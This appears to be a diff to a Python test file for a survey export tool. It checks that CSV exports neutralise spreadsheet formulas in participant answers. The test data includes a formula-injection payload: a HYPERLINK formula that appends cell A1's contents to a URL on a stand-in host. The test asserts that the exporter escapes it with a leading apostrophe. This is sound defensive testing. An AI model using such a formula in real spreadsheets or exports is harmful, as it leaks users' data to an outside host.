@@ -234,7 +234,7 @@ async def test_a_sheet_past_the_row_limit_continues_on_the_next(services, tmp_pa
 async def test_csv_zip_holds_the_same_sheets_and_the_codebook(services, tmp_path):
     await join(services, 901)
     await two_rounds(services)
-    await answer_everything(services, 901, ["=1+1", "#REF!"])
+    await answer_everything(services, 901, ['=HYPERLINK("http://x.example/?"&A1,"see")', "#REF!"])
     out = tmp_path / "book.zip"
     counts = await export_workbook(services.env, out, format="csv")
     assert counts["answers"] == 8
@@ -258,9 +258,12 @@ async def test_csv_zip_holds_the_same_sheets_and_the_codebook(services, tmp_path
     )
     assert all(data.startswith(b"\xef\xbb\xbf") for data in raw.values())
     answers = list(csv.reader(io.StringIO(raw["answers.csv"].decode("utf-8-sig"))))
-    assert [r[10] for r in answers[1:3]] == ["=1+1", "#REF!"]
+    # A spreadsheet opening the csv must not run a participant's formula: it gets a leading apostrophe.
+    assert [r[10] for r in answers[1:3]] == ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "#REF!"]
     codes = list(csv.reader(io.StringIO(raw["codebook.csv"].decode("utf-8-sig"))))
-    assert ["Round r1", "size", "", "-9", "Not sure"] in codes
+    assert ["Round r1", "size", "", "-9", "Not sure"] in codes  # a negative number is no formula
+    facts = dict(r[:2] for r in csv.reader(io.StringIO(raw["about.csv"].decode("utf-8-sig"))) if len(r) > 1)
+    assert facts["csv_formula_like_texts_quoted"] == "2"  # in Answers and in the round sheet
 
 
 async def test_one_round_or_answers_since_a_date(services, clock, tmp_path):
